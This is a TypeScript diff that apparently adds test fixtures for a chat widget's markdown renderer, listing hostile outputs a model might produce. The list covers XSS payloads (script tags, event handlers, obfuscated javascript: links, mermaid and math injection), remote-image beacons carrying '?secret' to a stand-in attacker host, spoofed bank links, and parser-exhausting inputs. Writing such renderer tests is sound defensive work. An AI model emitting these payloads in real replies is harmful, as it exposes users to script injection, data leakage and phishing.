@@ -1,0 +1,81 @@
+import { type Attack, answer, EVIL, RUN } from './attack.js'
+
+const text = (name: string, markdown: string): Attack => ({ name: `markdown: ${name}`, events: [answer(markdown)] })
+
+/** What a model may write. */
+export const MARKDOWN: Attack[] = [
+  text('script element', `<script>${RUN}</script>`),
+  text('image with a handler', `<img src=x onerror="${RUN}">`),
+  text('svg with a handler', `<svg onload="${RUN}"><script>${RUN}</script></svg>`),
+  text('iframe', `<iframe src="https://${EVIL}/" srcdoc="<script>${RUN}</script>"></iframe>`),
+  text('style element', `<style>@import url(https://${EVIL}/a.css); body{background:url(https://${EVIL}/b)}</style>`),
+  text('meta refresh', `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`),
+  text('base element', `<base href="https://${EVIL}/">\n\n[x](y)`),
+  text('form', `<form action="https://${EVIL}/"><button autofocus onfocus="${RUN}">Log in</button></form>`),
+  text(
+    'link element',
+    `<link rel="stylesheet" href="https://${EVIL}/x.css"><link rel="preconnect" href="https://${EVIL}">`,
+  ),
+  text(
+    'custom element',
+    `<openai-chatkit onclick="${RUN}"></openai-chatkit><template><img src=x onerror=${RUN}></template>`,
+  ),
+  text('math and foreign content', `<math><mtext></table><mglyph><style><!--</style><img src=x onerror=${RUN}>`),
+  text('comment that ends early', `<!--><img src=x onerror=${RUN}>-->`),
+  text('CDATA', `<![CDATA[<img src=x onerror=${RUN}>]]>`),
+  text('details with a handler', `<details open ontoggle="${RUN}">x</details>`),
+  text('javascript link', `[click](javascript:${RUN})`),
+  text('javascript link with entities', `[click](java&#115;cript:${RUN}) [b](&#106;avascript&colon;${RUN})`),
+  text(
+    'javascript link with blanks',
+    `[click](<java\tscript:${RUN}>) [b](< javascript:${RUN}>) [c](<\u0001javascript:${RUN}>)`,
+  ),
+  text('javascript autolink', `<javascript:${RUN}>`),
+  text('data link', `[click](data:text/html,<script>${RUN}</script>)`),
+  text(
+    'vbscript and file links',
+    `[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://${EVIL}/1) [d](about:blank)`,
+  ),
+  text('relative link', '[a](/admin) [b](//evil.example/) [c](../../..) [d](?x) [e](#y)'),
+  text('link with credentials', `[your bank](https://bank.example@${EVIL}/)`),
+  text('link that names another host', `[https://bank.example](https://${EVIL}/)`),
+  text(
+    'link without words',
+    `[](https://${EVIL}/) [ ](https://${EVIL}/) [\u200b](https://${EVIL}/) [\u2060](https://${EVIL}/)`,
+  ),
+  text(
+    'link of blanks that are no blanks',
+    `[\u3164](https://${EVIL}/) [\u115f\u1160](https://${EVIL}/) [\u00ad](https://${EVIL}/)`,
+  ),
+  text('link in a reversed text', `[\u202emoc.knab\u202c](https://${EVIL}/)`),
+  text('reference link', `[bank.example][1]\n\n[1]: https://${EVIL}/ "bank.example"`),
+  text('remote picture', `![x](https://${EVIL}/pixel.png?secret)`),
+  text('remote picture as reference', `![x][p]\n\n[p]: https://${EVIL}/pixel.png`),
+  text('remote picture in a link', `[![x](https://${EVIL}/a.png)](https://${EVIL}/b)`),
+  text('picture of script', `![x](javascript:${RUN}) ![y](data:text/html,<script>${RUN}</script>)`),
+  text('picture of another scheme', `![x](ftp://${EVIL}/a.png) ![y](//${EVIL}/a.png) ![z](blob:null/x)`),
+  text('handler in a link title', `[a](https://example.com '" onmouseover="${RUN}')`),
+  text('handler in a language', `\`\`\`js" onmouseover="${RUN}\ncode\n\`\`\``),
+  text(
+    'hostile diagram',
+    `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${RUN}>"]-->B\nclick A "javascript:${RUN}"\n%%{init:{"securityLevel":"loose","themeCSS":"@import url(https://${EVIL}/)"}}%%\n\`\`\``,
+  ),
+  text(
+    'hostile math',
+    `$$\\href{javascript:${RUN}}{x} \\url{javascript:${RUN}} \\includegraphics{https://${EVIL}/a} \\htmlData{a=b}{x}$$`,
+  ),
+  text('math without end', `$$${'\\def\\a{\\a\\a}'.repeat(20)}\\a$$`),
+  text('code that is a page', `\`\`\`html\n<script>${RUN}</script>\n\`\`\``),
+  text('deep quotes', `${'>'.repeat(2000)} x`),
+  text('deep lists', Array.from({ length: 300 }, (_, at) => `${' '.repeat(at * 2)}- x`).join('\n')),
+  text('many emphasis marks', `${'*a_'.repeat(4000)}`),
+  text('many open brackets', '['.repeat(20_000)),
+  text('huge table', `|${'a|'.repeat(600)}\n|${'-|'.repeat(600)}\n|${'b|'.repeat(600)}`),
+  text('word without end', 'x'.repeat(50_000)),
+  text('marks above and below', `Z${'\u0336\u0489\u0310\u030d\u0311'.repeat(400)} x`),
+  text('reversed text', '\u202eecnetnes desrever a\u202c and \u202d more \u2067 \u202b'),
+  text('text from below zero width', `\u200b\u200c\u200d\ufeff\u2060${'\u200b'.repeat(5000)}visible`),
+  text('deep link with script', `[go](chatkit-link://x?y=<script>${RUN}</script>) [b](chatkit-link:javascript:${RUN})`),
+  text('footnote with script', `x[^1]\n\n[^1]: <img src=x onerror=${RUN}>`),
+  text('broken characters', '\ud800 \udfff \u0000 \uffff \u{e0041}\u{e007f}'),
+]
